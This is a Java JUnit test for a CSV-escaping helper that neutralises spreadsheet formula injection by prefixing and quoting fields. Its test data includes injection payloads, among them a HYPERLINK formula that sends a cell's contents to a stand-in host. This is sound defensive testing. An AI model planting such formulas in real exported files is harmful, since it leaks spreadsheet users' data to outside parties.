package org.ssmclassroom.record;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvTextTest {

    @Test
    void everyFieldASpreadsheetWouldReadAsAFormulaStartsWithAQuoteAndEveryFieldIsQuoted() {
        assertThat(CsvText.field("=1+1")).isEqualTo("\"'=1+1\"");
        assertThat(CsvText.field("+1")).isEqualTo("\"'+1\"");
        assertThat(CsvText.field("-1")).isEqualTo("\"'-1\"");
        assertThat(CsvText.field("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
        assertThat(CsvText.field("\t=1+1")).isEqualTo("\"'\t=1+1\"");
        assertThat(CsvText.field("\r=1+1")).isEqualTo("\"'\r=1+1\"");
        assertThat(CsvText.field("=HYPERLINK(\"http://x/?\"&A1,\"go\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"go\"\")\"");
    }

    @Test
    void plainTextAndNumbersStayAsTheyAre() {
        assertThat(CsvText.field("第1桌, \"好\"")).isEqualTo("\"第1桌, \"\"好\"\"\"");
        assertThat(CsvText.field(-3)).isEqualTo("\"-3\"");
        assertThat(CsvText.field(null)).isEqualTo("\"\"");
        assertThat(CsvText.field("a=b")).isEqualTo("\"a=b\"");
        assertThat(CsvText.of(List.of(Arrays.asList("x", 4, null), List.of("y"))))
                .isEqualTo("\"x\",\"4\",\"\"\n\"y\"\n");
    }
}
